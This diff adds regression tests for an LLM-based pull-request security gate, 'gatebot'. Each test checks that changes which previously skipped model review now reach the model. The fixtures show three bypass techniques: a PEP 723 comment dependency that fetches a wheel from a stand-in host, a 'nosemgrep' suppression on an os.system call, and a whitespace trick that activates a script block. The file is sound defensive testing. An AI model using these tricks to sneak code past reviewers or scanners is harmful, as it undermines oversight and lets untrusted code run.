@@ -1,0 +1,83 @@
+"""Red-team regressions on triage (docs/security.md, §6.10): changes the gate passed without a
+model although they change what runs — each found against main and fixed in the module that
+decides, then driven here over the real wire: a real repository (pygit2), `gatebot review` as
+the Action runs it, the loopback GitHub (the conclusion asserted is the one GitHub received)
+and the loopback Gemini, which reports a high finding on every line carrying `FIXME-SECURITY`
+that it is shown. So a change the gate sends to the model fails the check; one it skips passed
+it. `Gate.run` checks that nothing outside the cache directory changed.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from dataclasses import dataclass
+from pathlib import Path
+
+import pytest
+
+from tests.fakes.gemini import FakeGemini
+from tests.fakes.github import FakeGitHub
+from tests.gitrepo import Content
+from tests.security.prgate import Gate
+
+MARK = "FIXME-SECURITY"
+BASE: dict[str, Content] = {"src/app.py": "def run():\n    return 1\n", "README.md": "# app\n"}
+EXEC = 0o100755
+
+
+@pytest.fixture
+def gate(tmp_path: Path, github_server: FakeGitHub, gemini_server: FakeGemini) -> Iterator[Gate]:
+    yield Gate(tmp_path, github_server, gemini_server)
+
+
+@dataclass(frozen=True)
+class Case:
+    base: dict[str, Content]
+    head: dict[str, Content]
+    path: str  # the file that must reach the model
+    base_modes: dict[str, int] | None = None
+    modes: dict[str, int] | None = None
+
+
+_PEP723 = "import sys\n\n# /// script\n# dependencies = []\n# ///\nprint(sys.argv)\n"
+
+CASES: dict[str, Case] = {
+    # Comments are not in the AST, but tools read them: `uv run tools/x.py` installs what a
+    # PEP 723 block lists. Found: `formatting-only change (equal Python AST)`, success.
+    "python: a PEP 723 dependency added in a comment": Case(
+        {**BASE, "tools/x.py": _PEP723},
+        {
+            "tools/x.py": _PEP723.replace(
+                "# dependencies = []",
+                f'# dependencies = ["helper @ https://x.invalid/helper.whl"]  # {MARK}',
+            )
+        },
+        "tools/x.py",
+    ),
+    # A scanner's suppression comment that no list of directive names had.
+    "python: a scanner's suppression comment": Case(
+        {**BASE, "src/run.py": "import os\n\n\ndef go(cmd):\n    os.system(cmd)\n"},
+        {"src/run.py": f"import os\n\n\ndef go(cmd):\n    os.system(cmd)  # nosemgrep {MARK}\n"},
+        "src/run.py",
+    ),
+    # A space turns `#///` (a comment) into `# ///` (a PEP 723 block).
+    "python: a space that starts a PEP 723 block": Case(
+        {**BASE, "tools/y.py": f"#///script\n#dependencies=['x']  {MARK}\n#///\nprint(1)\n"},
+        {"tools/y.py": f"# /// script\n# dependencies=['x']  {MARK}\n# ///\nprint(1)\n"},
+        "tools/y.py",
+    ),
+}
+
+
+@pytest.mark.parametrize("name", sorted(CASES))
+def test_a_change_that_alters_what_runs_reaches_the_model(
+    gate: Gate, gemini_server: FakeGemini, name: str
+) -> None:
+    case = CASES[name]
+    gate.base = gate.repo.commit(case.base, message="main", modes=case.base_modes)
+    head = gate.push(case.head, modes=case.modes)
+    run = gate.run(head)  # asserts nothing outside the cache changed
+    f = next(f for f in run.verdict["files"] if f["path"] == case.path)
+    assert f["status"] == "reviewed", f
+    assert case.path in gemini_server.stats.paths_asked(), gemini_server.stats.paths_asked()
+    assert run.check.conclusion == "failure" and run.code == 1, (run.check, f)
